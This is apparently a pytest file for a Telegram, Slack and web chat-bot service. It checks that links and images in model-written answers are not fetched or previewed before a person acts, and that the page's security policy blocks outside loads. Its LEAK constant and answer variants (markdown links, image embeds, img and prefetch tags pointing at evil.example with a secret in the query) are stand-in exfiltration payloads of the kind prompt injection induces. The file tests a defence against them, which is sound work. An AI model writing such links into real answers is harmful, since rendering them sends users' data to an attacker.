"""Read out: what a model was talked into writing must not carry anything out before a person presses it."""

import re
from collections.abc import Iterator

import pytest
from standins.bot_api import BotApi, Person
from standins.clocks import fast_clock
from standins.models import Typist
from standins.running import slack_bot, telegram_bot
from standins.slack_api import BOT_USER, SlackApi, limited

from botservice import Attachment, Storage, Tool, ToolCall
from botservice.config.settings import Settings
from transports.slack.context import Manners
from transports.slack.formatting import find_address
from transports.slack.live import showable
from transports.slack.plugin import build_slack
from transports.telegram.plugin import build_telegram
from transports.web.markdown import render_markdown
from transports.web.pages import HEADERS

LEAK = "https://evil.example/?d=swordfish"
ANSWERS = [f"See {LEAK} for more", f"[see more]({LEAK})", f"<{LEAK}>", f"![picture]({LEAK})"]


@pytest.fixture
def telegram() -> Iterator[BotApi]:
    with BotApi.running() as server:
        server.add_private_chat(42)
        server.add_group(-100, members=[Person(42)])
        yield server


@pytest.fixture
def slack() -> Iterator[SlackApi]:
    with SlackApi.running() as server:
        yield server


@pytest.fixture
def typist() -> Typist:
    return Typist()


@pytest.mark.parametrize("answer", ANSWERS)
async def test_telegram_fetches_nothing_that_a_model_writes(telegram: BotApi, sqlite_storage: Storage, answer) -> None:
    async with telegram_bot(telegram, sqlite_storage, [answer]):
        telegram.person_says("hello", chat_id=42)
        await telegram.message(42)
    assert telegram.world.fetched == []


async def test_telegram_fetches_nothing_while_a_group_watches_an_answer_grow(
    telegram: BotApi, sqlite_storage: Storage, typist: Typist
) -> None:
    async with telegram_bot(telegram, sqlite_storage, typist):
        telegram.person_says(f"@{telegram.username} go on", chat_id=-100)
        typist.write("Words that come before it. " * 10, LEAK)
        await telegram.message(-100)
        typist.write(" The end.")
        typist.finish()
        await telegram.message(-100, "The end.")
    assert telegram.world.fetched == []


async def test_telegram_shows_previews_where_the_owner_wants_them(telegram: BotApi, sqlite_storage: Storage) -> None:
    async with telegram_bot(telegram, sqlite_storage, ANSWERS[:1], previews=True):
        telegram.person_says("hello", chat_id=42)
        await telegram.message(42)
    assert telegram.world.fetched == [LEAK]


@pytest.mark.parametrize("answer", ANSWERS)
async def test_slack_fetches_nothing_that_a_model_writes(slack: SlackApi, sqlite_storage: Storage, answer) -> None:
    async with slack_bot(slack, sqlite_storage, [answer]):
        slack.person_says("hello")
        await slack.until(slack.said)
    assert slack.world.fetched == []


async def test_slack_fetches_nothing_of_a_stream(slack: SlackApi, sqlite_storage: Storage, typist: Typist) -> None:
    async with slack_bot(slack, sqlite_storage, typist):
        slack.person_says(f"<@{BOT_USER}> go on", channel="C0GENERAL")
        typist.write("Before it. ")
        post = (await slack.until(lambda: [each for each in slack.world.posts if each.is_streaming]))[0]
        typist.write(LEAK, " and after it.")
        typist.finish()
        await slack.until(lambda: any(LEAK in text for text in slack.said("C0GENERAL")))
    assert slack.said("C0GENERAL") == [f"Before it. {LEAK} and after it."]
    assert (slack.world.fetched, post.states[-1]) == ([], "Before it.")


def test_slack_opens_no_stream_for_an_answer_of_which_nothing_may_be_shown_yet() -> None:
    assert showable(LEAK, Manners()).text == ""
    assert showable(f"{LEAK} and after it", Manners()).text == ""
    assert showable(f"Before it. {LEAK}", Manners()).text.strip() == "Before it."


async def test_slack_keeps_the_answer_back_until_its_stream_is_gone(
    slack: SlackApi, sqlite_storage: Storage, typist: Typist
) -> None:
    slack.order(limited(1), "chat.delete")
    async with slack_bot(slack, sqlite_storage, typist, clock=fast_clock()):
        slack.person_says(f"<@{BOT_USER}> go on", channel="C0GENERAL")
        typist.write("Before it. ")
        await slack.until(lambda: [each for each in slack.world.posts if each.is_streaming])
        typist.write(LEAK)
        typist.finish()
        await slack.until(lambda: any(LEAK in text for text in slack.said("C0GENERAL")))
    assert slack.said("C0GENERAL") == [f"Before it. {LEAK}"]


async def test_slack_fetches_nothing_of_an_answer_that_only_the_asker_sees(
    slack: SlackApi, sqlite_storage: Storage
) -> None:
    async with slack_bot(slack, sqlite_storage, ANSWERS[:1]):
        slack.command("hello")
        await slack.until(lambda: slack.world.responses)
    assert slack.world.fetched == []


async def test_slack_fetches_nothing_of_a_file_that_is_an_address(slack: SlackApi, sqlite_storage: Storage) -> None:
    def draw() -> Attachment:
        """Draw a picture."""
        return Attachment("image/png", "picture.png", url=LEAK)

    script = [ToolCall("1", "draw")]
    async with slack_bot(slack, sqlite_storage, script, tools=[Tool(draw, is_final=True)]):
        slack.person_says("draw")
        await slack.until(slack.said)
    assert slack.world.fetched == []


async def test_slack_shows_previews_where_the_owner_wants_them(slack: SlackApi, sqlite_storage: Storage) -> None:
    async with slack_bot(slack, sqlite_storage, ANSWERS[:1], manners=Manners(previews=True)):
        slack.person_says("hello")
        await slack.until(slack.said)
    assert slack.world.fetched == [LEAK]


@pytest.mark.parametrize("answer", [*ANSWERS, f'<img src="{LEAK}">', f"<link rel=prefetch href={LEAK}>"])
def test_a_browser_loads_nothing_that_a_model_writes(answer: str) -> None:
    assert not re.search(
        r"<(img|link|script|iframe|object|video|audio|style|svg|meta)\b", "".join(render_markdown(answer))
    )
    policy = HEADERS["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "img-src 'self' blob:;" in policy
    assert "http" not in policy


@pytest.mark.parametrize(
    ("values", "shown"),
    [
        ({}, (False, False)),
        ({"link_previews": "on"}, (True, True)),
        ({"link_previews": "off", "slack_unfurl": "true"}, (False, True)),
    ],
)
def test_one_setting_allows_previews_everywhere(values, shown) -> None:
    settings = Settings.load(None, telegram_bot_token="1:a", slack_bot_token="xoxb-1", **values)
    telegram, slack = build_telegram(settings), build_slack(settings)
    assert (telegram._telegram.client._is_previewing, slack._slack.manners.previews) == shown


@pytest.mark.parametrize(
    "address",
    [
        "http://x",
        "HTTPS://x/?d=1",
        "www.evil.example",
        "evil.example/secret",
        "[a](x)",
        "<mailto:a@b.example>",
        "a://b",
    ],
)
def test_an_address_is_seen_wherever_it_stands(address: str) -> None:
    assert find_address(f"some words\n{address}") == len("some words\n")
    assert find_address(address) == 0


@pytest.mark.parametrize("words", ["", "e.g. this", "3.5/4", "a and/or b", "f(x) [1] (2)", "x < y: z"])
def test_what_is_no_address_stays(words: str) -> None:
    assert find_address(words) is None
